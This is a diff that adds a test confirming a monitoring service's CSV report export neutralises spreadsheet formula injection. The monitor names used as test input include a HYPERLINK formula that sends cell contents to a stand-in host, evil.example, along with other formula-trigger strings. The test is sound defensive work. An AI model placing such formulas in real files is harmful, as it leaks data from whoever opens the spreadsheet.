@@ -70,6 +70,22 @@ describe.each(backends)('reports on %s', (backend) => {
     expect(scans.rows).toEqual([{ scan_id: 'scn_edge1', url: 'https://a.example/', status: 'completed', language: 'en', trackers: 2, created_at: '2026-11-01T00:00:00.000Z' }]);
   });
 
+  it('neutralises text cells a spreadsheet would run as formulas, keeping numbers numeric', async () => {
+    const owner = await t.tenantWithKey('business');
+    const names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', 'Plain'];
+    for (const name of names) {
+      const created = await t.inject({ method: 'POST', url: '/api/monitors/', token: owner.token, payload: { name, target: { type: 'url', url: 'https://127.0.0.1:9/' }, interval_seconds: 60 } });
+      expect(created.statusCode, created.body).toBe(201);
+    }
+    const queued = await t.inject({ method: 'POST', url: '/api/reports/', token: owner.token, payload: { kind: 'uptime', ...november, format: 'csv' } });
+    while (await t.app.services.reports.runNext());
+    const file = await t.inject({ method: 'GET', url: `/api/reports/${queued.json().id}/download/`, token: owner.token });
+    const nameCells = file.body.split('\r\n').slice(1, -1).map((line) => line.split(',https://')[0].split(',').slice(1).join(','));
+    expect(nameCells.sort()).toEqual(
+      [`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`, "'+1+2", "'-2+3", "'@SUM(A1:A2)", 'Plain'].sort(),
+    );
+  });
+
   it.each([
     ['a reversed period', { kind: 'uptime', period_start: '2026-12-01T00:00:00Z', period_end: '2026-11-01T00:00:00Z' }, 'period_reversed'],
     ['an empty period', { kind: 'uptime', period_start: '2026-12-01T00:00:00Z', period_end: '2026-12-01T00:00:00Z' }, 'period_reversed'],
